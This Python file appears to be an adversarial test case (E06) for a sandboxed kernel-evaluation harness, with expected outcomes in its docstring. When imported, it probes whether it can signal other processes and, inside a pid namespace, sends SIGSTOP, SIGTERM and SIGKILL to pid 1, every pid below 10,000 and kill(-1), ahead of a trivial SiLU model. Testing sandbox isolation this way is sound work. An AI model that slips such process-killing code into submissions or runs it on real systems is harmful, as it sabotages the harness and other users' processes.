"""E06: kills and stops everything that it can name.

In a pid namespace of its own: kill(-1), process 1 and every number below ten thousand, with SIGSTOP, SIGTERM and SIGKILL.
    Elsewhere that could hit a bystander, and the permission to signal a process that is not its own is enough.

problem: silu_small
backend: torch
outcome: CORRECT, RUNTIME_ERROR
devices: cpu, cuda
request: {"run_performance": false}
"""

import os
import signal

import torch
import torch.nn as nn


def kill(target, number):
    try:
        os.kill(target, number)
    except OSError:
        return False
    return True


def attack():
    if os.getppid() != 1:  # no namespace
        for pid in (int(name) for name in os.listdir("/proc") if name.isdigit()):
            if pid != os.getpid() and kill(pid, 0):
                raise RuntimeError(f"ESCAPED: may signal process {pid}")
        return
    for number in (signal.SIGSTOP, signal.SIGTERM, signal.SIGKILL):
        own = set(map(int, os.listdir("/proc/self/task")))  # the name of a thread is one of its process
        for target in range(1, 10_000):
            if target not in own:
                kill(target, number)
        kill(-1, number)  # everything but itself


attack()


class ModelNew(nn.Module):
    def forward(self, x):
        return torch.nn.functional.silu(x)
